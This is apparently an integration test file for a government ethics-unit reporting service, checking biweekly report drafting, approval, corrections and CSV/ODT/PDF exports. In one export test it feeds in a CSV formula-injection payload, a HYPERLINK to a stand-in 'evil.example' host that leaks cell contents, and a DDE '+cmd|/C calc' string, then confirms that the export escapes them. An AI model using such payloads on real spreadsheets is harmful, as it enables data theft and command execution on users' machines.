import { rocDateText } from '@integrity/domain';
import * as XLSX from '@e965/xlsx';
import { EVENT_STORE, type EventStore } from '@integrity/event-store';
import { ActiveReadModels, READ_MODEL_STORE, rebuildReadModels, type ReadModelStore } from '@integrity/read-models';
import { BiweeklyCycle } from '../../apps/worker/src/follow-up/biweekly-cycle';
import { until } from '../support/polling';
import { binary, odtText } from '../support/odt-text';
import { pdfTextOf } from '../support/pdf-text-of';
import { aacAuditor, ADMIN, aReflection, bearer, startTestApp, tokenFor, unitWithUsers, type TestApp, type UnitUsers } from '../support/test-app';

const PERIOD = '2026-11-09'; // 2026-11-09 .. 2026-11-22
const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"點此查看")';

interface Row {
  kind: string;
  title: string;
  count: number;
  summary: string;
  opinions: string;
  items: { caseNo: string | null; summary: string; handling: string }[];
}

describe('the biweekly results report over HTTP', () => {
  let t: TestApp;
  let admin: string;
  let unit: UnitUsers;
  let other: UnitUsers;
  let auditor: string;
  let last = '0';

  const post = async (path: string, body: object, token = unit.tokens.officer, status = 200) => {
    const response = await t.http().post(path).set(bearer(token)).set('X-Min-Position', last).send(body);
    if (response.status !== status) throw new Error(`${path}: ${response.status} ${JSON.stringify(response.body)}`);
    if (response.body.position) last = response.body.position;
    return response;
  };
  const refused = async (path: string, body: object, token = unit.tokens.officer) => {
    const response = await t.http().post(path).set(bearer(token)).set('X-Min-Position', last).send(body);
    return { status: response.status, error: response.body.error as string, body: response.body };
  };
  const report = async (token = unit.tokens.officer, query = `periodStart=${PERIOD}`) =>
    (await t.http().get(`/api/v1/reports/biweekly?${query}`).set(bearer(token)).set('X-Min-Position', last).expect(200)).body;
  const forAac = (query = `periodStart=${PERIOD}`) => report(auditor, `${query}&unitId=${unit.unitId}`);
  const roster = async (periodStart = PERIOD) => (await t.http().get(`/api/v1/reports/submissions?periodStart=${periodStart}`).set(bearer(auditor)).set('X-Min-Position', last).expect(200)).body.items;
  const step = (verb: string, body: object = {}, token = unit.tokens.officer, status = 200) => post(`/api/v1/reports/biweekly/${PERIOD}/${verb}`, body, token, status);
  const at = (instant: string) => t.clock.set(instant);
  const counts = (rows: Row[]) => rows.map((r) => r.count);

  beforeAll(async () => {
    t = await startTestApp();
    at('2026-11-01T02:00:00Z');
    admin = await tokenFor(t, ADMIN.username, ADMIN.password);
    unit = await unitWithUsers(t, admin, 'TYN');
    other = await unitWithUsers(t, admin, 'CYI');
    auditor = await aacAuditor(t, admin, 'aac.reports');

    at('2026-11-08T15:59:00Z'); // 23:59 on 11/8 in Taipei: the day before the period
    await post('/api/v1/reflections', { ...aReflection, receivedOn: '2026-11-08', summary: '期間前一日' }, unit.tokens.officer, 201);
    at('2026-11-08T16:00:00Z'); // 00:00 on 11/9 in Taipei, still 11/8 in UTC: the first day
    const first = (await post('/api/v1/reflections', { ...aReflection, receivedOn: '2026-11-09', summary: '期間首日' }, unit.tokens.officer, 201)).body.id;
    await post(`/api/v1/reflections/${first}/route`, { departments: ['工務課'] });
    at('2026-11-22T15:59:00Z'); // 23:59 on the last day in Taipei
    await post('/api/v1/reflections', { ...aReflection, nature: 'policy_feedback', category: 'policy_opinion', receivedOn: '2026-11-22', summary: '期間末日', handlingOpinion: '陳報首長參考' }, unit.tokens.officer, 201);
    await post('/api/v1/promotions', { kind: 'leaflets', heldOn: '2026-11-22', description: '發放廉政文宣', quantity: 120 }, unit.tokens.officer, 201);
    at('2026-11-22T16:00:00Z'); // 00:00 on 11/23 in Taipei: the next period
    await post('/api/v1/reflections', { ...aReflection, receivedOn: '2026-11-23', summary: '下一期首日' }, unit.tokens.officer, 201);
    await post('/api/v1/promotions', { kind: 'results_display', heldOn: '2026-11-23', description: '成果展示' }, unit.tokens.officer, 201);
    at('2026-11-24T02:00:00Z');
  });
  afterAll(() => t.close());

  it('lists the periods with their ROC labels', async () => {
    const periods = (await t.http().get('/api/v1/reports/periods').set(bearer(unit.tokens.officer)).expect(200)).body.items;
    expect(periods[0]).toEqual({ start: '2026-11-23', end: '2026-12-06', rocMonth: '115年12月', rocPeriod: '115年11月23日-12月6日' });
    expect(periods[1]).toEqual({ start: '2026-11-09', end: '2026-11-22', rocMonth: '115年11月', rocPeriod: '115年11月9-22日' });
  });

  it('counts exactly the items of the period, each case by its number, and composes the handling from what was done', async () => {
    const view = await report();
    expect(view).toMatchObject({ title: 'TYN政風室115年11月辦理村里廉政平臺工作成果彙報表', rocPeriod: '115年11月9-22日', status: 'not_drafted', owed: true, dueOn: '2026-11-25' });
    expect(view.rows.map((r: Row) => [r.kind, r.title, r.count])).toEqual([
      ['public_need', '民情需求事項', 1],
      ['policy_feedback', '施政興革反映', 1],
      ['promotion', '反貪倡廉宣導', 1],
    ]);
    // 115-0001 is the case of 11/8, before the period: the unit numbers its cases in the order they were recorded.
    expect(view.rows[0].items).toEqual([expect.objectContaining({ caseNo: '115-0002', summary: '期間首日', handling: '簽會工務課' })]);
    expect(view.rows[0]).toMatchObject({ summary: '期間首日', opinions: '115-0002：簽會工務課' });
    expect(view.rows[1]).toMatchObject({ countsByCategory: { policy_opinion: 1 }, opinions: '115-0003：陳報首長參考' });
    expect(view.rows[2]).toMatchObject({ countsByCategory: { leaflets: 1 }, summary: '發放廉政文宣（數量120）' });
    const next = await report(unit.tokens.officer, 'periodStart=2026-11-23');
    expect(counts(next.rows)).toEqual([1, 0, 1]);
    expect((await t.http().get('/api/v1/reports/biweekly?periodStart=2026-11-10').set(bearer(unit.tokens.officer)).expect(400)).body.error).toBe('NOT_A_PERIOD_START');
  });

  it('neither drafts nor approves a period that is still running', async () => {
    for (const verb of ['draft', 'approve']) {
      const answer = await refused(`/api/v1/reports/biweekly/2026-11-23/${verb}`, {}, verb === 'approve' ? unit.tokens.head : unit.tokens.officer);
      expect([answer.status, answer.error]).toEqual([409, 'PERIOD_NOT_ENDED']);
    }
  });

  it('drafts with a case recorded a moment before, edits texts but never counts, and keeps the edit over a rebuild', async () => {
    // No X-Min-Position: drafting waits for the read models to reach the log's head itself.
    await t.http().post('/api/v1/reflections').set(bearer(unit.tokens.officer)).send({ ...aReflection, receivedOn: '2026-11-12', summary: '擬稿前一刻' }).expect(201);
    const drafted = await t.http().post(`/api/v1/reports/biweekly/${PERIOD}/draft`).set(bearer(unit.tokens.officer)).send({}).expect(200);
    last = drafted.body.position;
    expect((await report()).current.rows[0]).toMatchObject({ count: 2, items: [expect.objectContaining({ summary: '期間首日' }), expect.objectContaining({ summary: '擬稿前一刻' })] });

    const countEdit = await t.http().post(`/api/v1/reports/biweekly/${PERIOD}/edit`).set(bearer(unit.tokens.officer)).send({ rows: [{ kind: 'public_need', summary: 'x', opinions: 'y', count: 9 }] }).expect(400);
    expect(countEdit.body.details[0].field).toBe('rows.0.count');
    const ownCount = await refused(`/api/v1/reports/biweekly/${PERIOD}/edit`, { rows: [{ kind: 'public_need', summary: '民眾反映路燈故障（計9案）', opinions: '已簽會工務課' }] });
    expect([ownCount.status, ownCount.error, ownCount.body.details[0].field]).toEqual([400, 'COUNT_IN_TEXT', 'rows[0].summary']);
    await step('edit', { rows: [{ kind: 'public_need', summary: '民眾反映路燈故障及河川疏濬', opinions: '已簽會工務課' }] });
    expect((await report()).current.rows[0]).toMatchObject({ summary: '民眾反映路燈故障及河川疏濬', opinions: '已簽會工務課', count: 2 });

    await rebuildReadModels(t.app.get<EventStore>(EVENT_STORE), t.app.get<ReadModelStore>(READ_MODEL_STORE), null, () => t.clock.now());
    t.app.get(ActiveReadModels).refresh();
    const rebuilt = await report();
    expect(rebuilt.current.rows[0].summary).toBe('民眾反映路燈故障及河川疏濬');
    expect(rebuilt.current.rows[0].items.map((i: { caseNo: string }) => i.caseNo)).toEqual(['115-0002', '115-0005']);
  });

  it('approves only what is there: a case recorded after the draft makes it stale, and the head approves the draft made again', async () => {
    const seen = (await report(unit.tokens.head)).current.hash;
    await post('/api/v1/reflections', { ...aReflection, receivedOn: '2026-11-20', summary: '擬稿後補登' }, unit.tokens.officer, 201);
    const stale = await refused(`/api/v1/reports/biweekly/${PERIOD}/approve`, { hash: seen }, unit.tokens.head);
    expect([stale.status, stale.error, stale.body.details.changes]).toEqual([409, 'REPORT_STALE', [{ kind: 'public_need', before: 2, after: 3, added: [expect.any(String)], removed: [] }]]);
    expect((await report()).pendingChanges).toEqual([expect.objectContaining({ title: '民情需求事項', before: 2, after: 3, addedCases: ['115-0006'] })]);

    await step('draft');
    const redrafted = await report(unit.tokens.head);
    expect(counts(redrafted.current.rows)).toEqual([3, 1, 1]);
    expect(redrafted.current.rows[0].summary).toBe('民眾反映路燈故障及河川疏濬'); // the officer's text stays
    const againStale = await refused(`/api/v1/reports/biweekly/${PERIOD}/approve`, { hash: seen }, unit.tokens.head);
    expect(againStale.error).toBe('REPORT_STALE');
    expect((await refused(`/api/v1/reports/biweekly/${PERIOD}/approve`, {}, unit.tokens.officer)).status).toBe(403);
    await step('approve', { hash: redrafted.current.hash, note: '核可' }, unit.tokens.head);
    expect((await refused(`/api/v1/reports/biweekly/${PERIOD}/edit`, { rows: [{ kind: 'promotion', summary: 'x', opinions: 'y' }] })).error).toBe('REPORT_LOCKED');
    await step('submit');
    const submitted = (await report()).current;
    expect(submitted).toMatchObject({ label: '原報', status: 'submitted', submission: { submittedOn: '2026-11-24', dueOn: '2026-11-25', late: false, daysLate: 0 } });
    expect(submitted.approval).toMatchObject({ approver: 'agency_head', hash: redrafted.current.hash, note: '核可' });
    expect(submitted.submission.hash).toBe(redrafted.current.hash);
    expect(submitted.hashMatchesApproval).toBe(true);

    // The AAC reads exactly what the head approved, and its hash.
    const aac = await forAac();
    expect(aac.current).toMatchObject({ label: '原報', hash: redrafted.current.hash, submission: { hash: redrafted.current.hash } });
    expect(counts(aac.rows)).toEqual([3, 1, 1]);
    // The worker records a checkpoint covering the submission: its root is the AAC's receipt.
    await until(async () => (await report()).current.submission.auditReceipt !== null, 'the submission to be covered by an audit checkpoint');
    const { auditReceipt } = (await report()).current.submission;
    const latest = (await t.http().get('/api/v1/audit/checkpoints/latest').set(bearer(unit.tokens.supervisor)).expect(200)).body.checkpoint;
    expect(latest).toMatchObject({ reason: 'report_submitted', root: auditReceipt.root, events: auditReceipt.events });
  });

  it('shows the AAC every ethics unit that owes the period, with its due date and days late, and never the AAC itself', async () => {
    at('2026-11-27T02:00:00Z');
    expect(await roster()).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ unitId: unit.unitId, unitName: 'TYN政風室', status: 'submitted', submittedOn: '2026-11-24', dueOn: '2026-11-25', late: false, daysLate: 0, approver: 'agency_head', currentVersion: '原報' }),
        expect.objectContaining({ unitId: other.unitId, unitName: 'CYI政風室', status: 'not_drafted', submittedOn: null, dueOn: '2026-11-25', late: true, daysLate: 2, currentVersion: null }),
      ]),
    );
    expect((await roster()).map((r: { unitName: string }) => r.unitName)).not.toContain('法務部廉政署');
    await t.http().get(`/api/v1/reports/submissions?periodStart=${PERIOD}`).set(bearer(unit.tokens.officer)).expect(403);
    const aacUnit = (await t.http().get('/api/v1/units').set(bearer(admin)).expect(200)).body.items.find((u: { kind: string }) => u.kind === 'aac');
    expect((await t.http().get(`/api/v1/reports/biweekly?periodStart=${PERIOD}&unitId=${aacUnit.id}`).set(bearer(auditor)).expect(404)).body.error).toBe('UNIT_NOT_FOUND');
  });

  it('owes nothing from before a unit started: a unit created today is not late for any earlier period', async () => {
    const fresh = await unitWithUsers(t, admin, 'NEW');
    for (const periodStart of ['2026-10-26', PERIOD]) expect((await roster(periodStart)).map((r: { unitId: string }) => r.unitId)).not.toContain(fresh.unitId);
    const current = (await t.http().get('/api/v1/reports/periods').set(bearer(auditor)).expect(200)).body.items[0].start;
    expect((await roster(current)).map((r: { unitId: string }) => r.unitId)).toContain(fresh.unitId);
    expect((await report(fresh.tokens.officer)).owed).toBe(false);
    // A unit that brings its history owes it: the administrator sets the day it started.
    await t.http().put(`/api/v1/units/${fresh.unitId}/active-from`).set(bearer(fresh.tokens.supervisor)).send({ activeFrom: '2026-11-01' }).expect(403);
    const future = await t.http().put(`/api/v1/units/${fresh.unitId}/active-from`).set(bearer(admin)).send({ activeFrom: '2026-12-01' }).expect(400);
    expect(future.body.error).toBe('ACTIVE_FROM_IN_FUTURE');
    await t.http().put(`/api/v1/units/${fresh.unitId}/active-from`).set(bearer(admin)).send({ activeFrom: '2026-11-01' }).expect(200);
    expect((await roster()).map((r: { unitId: string }) => r.unitId)).toContain(fresh.unitId);
  });

  it('dates a period ending before the Lunar New Year due after the holidays, by the AAC’s working days', async () => {
    await t.http().put(`/api/v1/units/${other.unitId}/active-from`).set(bearer(admin)).send({ activeFrom: '2026-01-05' }).expect(200);
    // 2/2–2/15: 2/16–2/20 are the New Year's days off and 2/21–22 a weekend; three working days end on 2/25.
    const newYear = (await roster('2026-02-02')).find((r: { unitId: string }) => r.unitId === other.unitId);
    expect(newYear).toMatchObject({ dueOn: '2026-02-25', late: true, daysLate: 275 });
    expect((await report(other.tokens.officer, 'periodStart=2026-02-02')).dueOn).toBe('2026-02-25');
    await t.http().put('/api/v1/reports/due-rule').set(bearer(unit.tokens.supervisor)).send({ workingDays: 5 }).expect(403);
    await t.http().put('/api/v1/reports/due-rule').set(bearer(auditor)).send({ workingDays: 0 }).expect(400);
    expect((await t.http().put('/api/v1/reports/due-rule').set(bearer(auditor)).send({ workingDays: 5 }).expect(200)).body).toEqual({ workingDays: 5 });
    // Five working days: 2/23–2/26, then 2/27 is a day off (和平紀念日補假) and 2/28–3/1 a weekend.
    expect((await roster('2026-02-02')).find((r: { unitId: string }) => r.unitId === other.unitId).dueOn).toBe('2026-03-02');
    // A submission keeps the due date it was judged by.
    expect((await roster()).find((r: { unitId: string }) => r.unitId === unit.unitId)).toMatchObject({ dueOn: '2026-11-25', daysLate: 0 });
    await t.http().put('/api/v1/reports/due-rule').set(bearer(auditor)).send({ workingDays: 3 }).expect(200);
  });

  it('turns a fact learned after submission into 更正待辦, a correction the head approves and the unit submits; the AAC reads the submitted version until then', async () => {
    at('2026-11-27T02:00:00Z');
    const late = (await post('/api/v1/reflections', { ...aReflection, receivedOn: '2026-11-20', summary: '送出後補登之案件' }, unit.tokens.officer, 201)).body.id;
    const due = (await t.http().get('/api/v1/reports/corrections').set(bearer(unit.tokens.officer)).set('X-Min-Position', last).expect(200)).body.items;
    expect(due).toEqual([{ periodStart: PERIOD, rocPeriod: '115年11月9-22日', state: 'due', version: 1, changes: [expect.objectContaining({ title: '民情需求事項', before: 3, after: 4, addedCases: ['115-0007'] })] }]);
    expect(await report()).toMatchObject({ correctionPending: true, current: { label: '原報' } });
    expect(counts((await forAac()).rows)).toEqual([3, 1, 1]);

    await step('draft');
    expect(await report()).toMatchObject({ correctionPending: true, current: { label: '更正1', status: 'drafted', changes: [expect.objectContaining({ before: 3, after: 4 })] } });
    const whileDrafted = await forAac();
    expect([whileDrafted.current.label, counts(whileDrafted.rows), whileDrafted.versions.map((v: { label: string }) => v.label)]).toEqual(['原報', [3, 1, 1], ['原報']]);
    expect((await refused(`/api/v1/reports/biweekly/${PERIOD}/submit`, {})).error).toBe('REPORT_NOT_APPROVED');
    expect((await refused(`/api/v1/reports/biweekly/${PERIOD}/approve`, {}, unit.tokens.supervisor)).error).toBe('HEAD_DECISION_NEEDS_DOCUMENT');
    const paperTooEarly = await refused(`/api/v1/reports/biweekly/${PERIOD}/approve`, { documentNo: '府政字第1150300號', decidedOn: '2026-11-26' }, unit.tokens.supervisor);
    expect([paperTooEarly.status, paperTooEarly.error]).toEqual([400, 'DECIDED_BEFORE_REQUEST']);
    await step('approve', { documentNo: '府政字第1150300號', decidedOn: '2026-11-27' }, unit.tokens.supervisor);
    expect((await forAac()).current.label).toBe('原報');

    // What the correction says of the late case is what was done by the submission, not later.
    await post(`/api/v1/reflections/${late}/route`, { departments: ['建設課'] });
    await step('submit');
    const aac = await forAac();
    expect(aac.current).toMatchObject({ label: '更正1', status: 'submitted', approval: { approver: 'supervisor_recording', onBehalf: { documentNo: '府政字第1150300號', decidedOn: '2026-11-27' } } });
    expect(counts(aac.rows)).toEqual([4, 1, 1]);
    expect(aac.versions.map((v: { label: string; approval: { approver: string }; submission: { submittedOn: string } }) => [v.label, v.approval.approver, v.submission.submittedOn])).toEqual([
      ['原報', 'agency_head', '2026-11-24'],
      ['更正1', 'supervisor_recording', '2026-11-27'],
    ]);
    expect((await roster()).find((r: { unitId: string }) => r.unitId === unit.unitId)).toMatchObject({ currentVersion: '更正1', corrections: 1, hash: aac.current.hash, submittedOn: '2026-11-24' });
    expect(await report()).toMatchObject({ correctionPending: false });
    expect((await t.http().get('/api/v1/reports/corrections').set(bearer(unit.tokens.officer)).set('X-Min-Position', last).expect(200)).body.items).toEqual([]);
  });

  it('answers the report as it stood on any date: before it was drafted, as first submitted, and now', async () => {
    const asOf = async (when: string) => report(unit.tokens.officer, `periodStart=${PERIOD}&asOf=${encodeURIComponent(when)}`);
    const before = await asOf('2026-11-24T01:59:59Z');
    expect([before.status, before.current, before.asOf]).toEqual(['not_drafted', null, '2026-11-24T01:59:59.000Z']);
    const submitted = await asOf('2026-11-24');
    expect([submitted.status, submitted.current.label, submitted.versions.length, counts(submitted.rows), submitted.asOf]).toEqual(['submitted', '原報', 1, [3, 1, 1], '2026-11-24T15:59:59.999Z']);
    expect((await asOf('2026-11-27T02:00:00+00:00')).versions).toHaveLength(2);
    const exported = await odtText((await t.http().get(`/api/v1/reports/biweekly/${PERIOD}/export?format=odt&asOf=2026-11-24`).set(bearer(unit.tokens.officer)).buffer(true).parse(binary).expect(200)).body);
    expect(exported).toContain('原報：首長115年11月24日核定，115年11月24日報送廉政署（期限115年11月25日）。');
    expect(exported).not.toContain('更正1');
    const refusedAsOf = await t.http().get(`/api/v1/reports/biweekly?periodStart=${PERIOD}&asOf=2026-02-30`).set(bearer(unit.tokens.officer)).set('Accept-Language', 'zh-TW').expect(400);
    expect(refusedAsOf.body).toMatchObject({ error: 'INVALID_AS_OF', details: [{ field: 'asOf', reason: '查詢時點不是存在的日期或時間。' }] });
  });

  it('drafts every owing unit’s report when its period ends, missed periods included, never twice', async () => {
    const cycle = t.app.get(BiweeklyCycle);
    at('2026-12-08T02:00:00Z');
    const drafted = await cycle.draftEndedPeriods();
    // TYN (from 11/1): 10/26–11/8 and 11/23–12/6. CYI (from 1/5 since a test above): its 24 periods to 12/6.
    // NEW (from 11/1 since a test above): 10/26–11/8, 11/9–11/22, 11/23–12/6.
    expect(drafted).toBe(2 + 24 + 3);
    await t.http().get(`/api/v1/health?minPosition=${await t.app.get<EventStore>(EVENT_STORE).headPosition()}`).expect(200);
    expect(await cycle.draftEndedPeriods()).toBe(0);
    expect((await report(other.tokens.officer, 'periodStart=2026-11-23')).status).toBe('drafted');
    at('2026-11-27T02:00:00Z');
  });

  const download = (path: string, token = unit.tokens.officer) => t.http().get(path).set(bearer(token)).set('X-Min-Position', last).buffer(true).parse(binary);
  const pdfText = (bytes: Buffer) => pdfTextOf(bytes, t.dataDir);

  it('exports Attachment 2 as CSV a spreadsheet reads: its rows and counts as the PDF prints them, the cases by number, no formula', async () => {
    const next = '2026-11-23';
    at('2026-12-08T02:00:00Z');
    await post('/api/v1/reflections', { ...aReflection, receivedOn: '2026-11-30', summary: HYPERLINK, handlingOpinion: '+cmd|/C calc' }, unit.tokens.officer, 201);
    await post(`/api/v1/reports/biweekly/${next}/draft`, {});
    at('2026-11-27T02:00:00Z');
    const pathOf = (format: string) => `/api/v1/reports/biweekly/${next}/export?format=${format}`;
    const csv = await download(pathOf('csv')).expect(200);
    expect(csv.headers['content-type']).toMatch(/text\/csv/);
    const sheet = XLSX.read(csv.body, { type: 'buffer' }).Sheets.Sheet1;
    const rows = XLSX.utils.sheet_to_json<string[]>(sheet, { header: 1, raw: false, blankrows: false });
    expect(rows[0]).toEqual(['TYN政風室115年12月辦理村里廉政平臺工作成果彙報表']);
    expect(rows[1]).toEqual(['【資料統計期間：115年11月23日-12月6日】']);
    expect(rows[2]).toEqual(['項次', '實施方式', '內容摘要', '處理意見']);
    const formRows = rows.slice(3, 6);
    expect(formRows.map((r) => [r[0], r[1]])).toEqual([
      ['1', '民情需求事項'],
      ['2', '施政興革反映'],
      ['3', '反貪倡廉宣導'],
    ]);
    // The PDF prints the same rows with the same counts, in the same order.
    const pdf = (await pdfText((await download(pathOf('pdf')).expect(200)).body)).replace(/\s+/g, '');
    const countsIn = (texts: string[]) => texts.flatMap((text) => [...text.matchAll(/（計(\d+)案）。/g)].map((m) => Number(m[1])));
    expect(countsIn(formRows.map((r) => r[2]))).toEqual([2, 0, 1]);
    expect(countsIn([pdf])).toEqual([2, 0, 1]);
    expect(pdf.indexOf('民情需求事項')).toBeLessThan(pdf.indexOf('施政興革反映'));
    expect(pdf).toContain('下一期首日');
    // No cell is a formula: the injected texts arrive as text, led by an apostrophe.
    const cells = Object.entries(sheet).filter(([address]) => !address.startsWith('!')) as [string, XLSX.CellObject][];
    expect(cells.filter(([, cell]) => cell.f !== undefined)).toEqual([]);
    expect(cells.filter(([, cell]) => String(cell.v).includes('HYPERLINK')).map(([, cell]) => cell.t)).toEqual(['s', 's']);
    const detail = rows.slice(rows.findIndex((r) => r[0] === '案件明細') + 2);
    expect(detail).toContainEqual(['1', '民情需求事項', '115-0008', '115年11月30日', '公共設施欠缺或設置管理不當，影響民眾權益之情', `'${HYPERLINK}`, "'+cmd|/C calc"]);
    expect(detail.map((r) => r[2])).toEqual(['115-0004', '115-0008', undefined]);
    // The same text left as it was would have been a formula to this reader: the test would see it.
    expect(XLSX.read(`a\r\n"${HYPERLINK.replace(/"/g, '""')}"\r\n`, { type: 'string' }).Sheets.Sheet1.A2.f).toBeDefined();
  });

  it('exports the CSV as of its submission without handling done since', async () => {
    const asSubmitted = await download(`/api/v1/reports/biweekly/${PERIOD}/export?format=csv&asOf=2026-11-27`).expect(200);
    const atSubmission = XLSX.utils.sheet_to_json<string[]>(XLSX.read(asSubmitted.body, { type: 'buffer' }).Sheets.Sheet1, { header: 1, raw: false });
    const lateCase = atSubmission.find((r) => r[2] === '115-0007') as string[];
    expect(lateCase[6]).toBe('簽會建設課'); // routed before the correction was submitted on 11/27
    const earlier = await download(`/api/v1/reports/biweekly/${PERIOD}/export?format=csv&asOf=2026-11-24`).expect(200);
    const firstSubmission = XLSX.utils.sheet_to_json<string[]>(XLSX.read(earlier.body, { type: 'buffer' }).Sheets.Sheet1, { header: 1, raw: false });
    expect(firstSubmission.find((r) => r[2] === '115-0007')).toBeUndefined();
    expect(firstSubmission.some((r) => String(r[0]).startsWith('原報：首長115年11月24日核定'))).toBe(true);
  });

  it('renders Attachment 2 as ODT and PDF with every version’s approval line, in person and on paper', async () => {
    const odt = await download(`/api/v1/reports/biweekly/${PERIOD}/export?format=odt`).expect(200);
    expect(odt.headers['content-type']).toBe('application/vnd.oasis.opendocument.text');
    const pdf = await download(`/api/v1/reports/biweekly/${PERIOD}/export?format=pdf`).expect(200);
    // Named as the unit files it: unit, form, the period's first day in ROC, the correction; ASCII for old clients.
    const disposition = pdf.headers['content-disposition'] as string;
    expect(disposition).toMatch(new RegExp(`^attachment; filename="biweekly-report-${PERIOD}\\.pdf"; filename\\*=UTF-8''`));
    expect(decodeURIComponent(disposition.split("UTF-8''")[1])).toMatch(new RegExp(`^TYN政風室-工作成果彙報表-${rocDateText(PERIOD)}(-更正\\d+)?\\.pdf$`));
    expect(pdf.body.toString('latin1')).toMatch(/\/FontFile2/); // the font travels inside the PDF
    const hash = (await forAac()).current.hash;
    for (const text of [await odtText(odt.body), (await pdfText(pdf.body)).replace(/\s+/g, '')]) {
      expect(text).toContain('TYN政風室115年11月辦理村里廉政平臺工作成果彙報表');
      expect(text).toContain('115年11月9-22日');
      for (const title of ['民情需求事項', '施政興革反映', '反貪倡廉宣導']) expect(text).toContain(title);
      expect(text).toContain('（計4案）。');
      expect(text).toContain('辦理情形：已報送（更正1）');
      expect(text).toContain('原報：首長115年11月24日核定，115年11月24日報送廉政署（期限115年11月25日）。');
      expect(text).toContain('更正1（民情需求事項由3案更正為4案（增列115-0007））：首長115年11月27日核定（府政字第1150300號），115年11月27日報送廉政署。');
      expect(text.replace(/\s+/g, '')).toContain(`更正1內容雜湊（SHA-256）：${hash}`);
      expect(text).toMatch(/原報稽核存證：115年11月\d+日紀錄雜湊根\s?[0-9a-f]{64}/);
    }
  });

  it('renders Attachment 1 for one reflection, with the reporter only for those who may see it', async () => {
    const list = await t.http().get('/api/v1/reflections?q=期間首日').set(bearer(unit.tokens.officer)).expect(200);
    const id = list.body.items[0].id;
    const forOfficer = await odtText((await download(`/api/v1/reflections/${id}/export?format=odt`).expect(200)).body);
    expect(forOfficer).toContain('TYN政風室村里廉政平臺工作紀錄表');
    expect(forOfficer).toContain('王小明');
    expect(forOfficer).toContain('■民情需求事項');
    expect(forOfficer).toContain('TYN officer');
    const forHead = (await pdfText((await download(`/api/v1/reflections/${id}/export?format=pdf`, unit.tokens.head).expect(200)).body)).replace(/\s+/g, '');
    expect(forHead).toContain('期間首日');
    expect(forHead).not.toContain('王小明');
    expect(forHead).toContain('依權限不予顯示');
    await download(`/api/v1/reflections/${id}/export?format=pdf`, other.tokens.officer).expect(404);
  });
});
